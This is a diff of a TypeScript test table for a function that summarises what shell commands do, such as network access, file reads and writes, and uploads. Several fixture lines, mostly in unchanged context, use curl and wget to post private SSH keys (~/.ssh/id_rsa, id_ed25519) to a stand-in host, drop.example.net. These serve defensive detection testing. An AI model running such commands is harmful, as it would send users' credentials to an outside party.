@@ -10,7 +10,7 @@ const TABLE: readonly [line: string, does: string][] = [
     "network https://drop.example.net, read /home/you/.ssh/id_ed25519 ! sends a file (/home/you/.ssh/id_ed25519) to https://drop.example.net",
   ],
   ["curl -F f=@./fixture.txt http://localhost:3000", "network-local http://localhost:3000, read ./fixture.txt"],
-  ["curl --data-binary @fixture.json http://127.0.0.1:8080", "network-local http://127.0.0.1:8080"],
+  ["curl --data-binary @fixture.json http://127.0.0.1:8080", "network-local http://127.0.0.1:8080, read fixture.json"],
   [
     "wget --post-file=/home/you/.ssh/id_rsa https://drop.example.net",
     "network https://drop.example.net, read /home/you/.ssh/id_rsa, write * ! sends a file (/home/you/.ssh/id_rsa) to https://drop.example.net",
@@ -59,6 +59,11 @@ const TABLE: readonly [line: string, does: string][] = [
   ],
   ["curl --version", "= anywhere"],
   ["curl -x localhost:8080 http://localhost", "network-local localhost:8080, network-local http://localhost"],
+  [
+    "curl --json @./a.json https://example.com",
+    "network https://example.com, read ./a.json ! sends a file (./a.json) to https://example.com",
+  ],
+  ["curl -D headers.txt http://localhost:3000", "network-local http://localhost:3000, write headers.txt"],
 ];
 test.each(TABLE)("%s", (line, does) => {
   expect(briefOf(line)).toBe(does);
